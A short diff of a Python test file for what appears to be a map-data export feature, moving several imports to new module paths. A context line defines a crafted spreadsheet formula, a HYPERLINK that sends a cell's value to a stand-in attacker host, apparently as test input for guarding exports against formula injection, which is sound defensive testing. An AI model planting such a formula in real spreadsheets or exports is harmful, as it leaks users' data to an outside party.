@@ -12,11 +12,11 @@ import pandas as pd
 import pyogrio
 import pytest
 
+from app.core.mapdata import legend_entries, shown_table
+from app.core.viewstate import ViewState
 from app.export import datafiles
-from app.mapbuild import legend_entries, shown_table
-from app.viewstate import ViewState
 from geodata import load_boundaries
-from tests.export_support import boundaries, data_for
+from tests.support.exports import boundaries, data_for
 
 CRAFTED = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
 
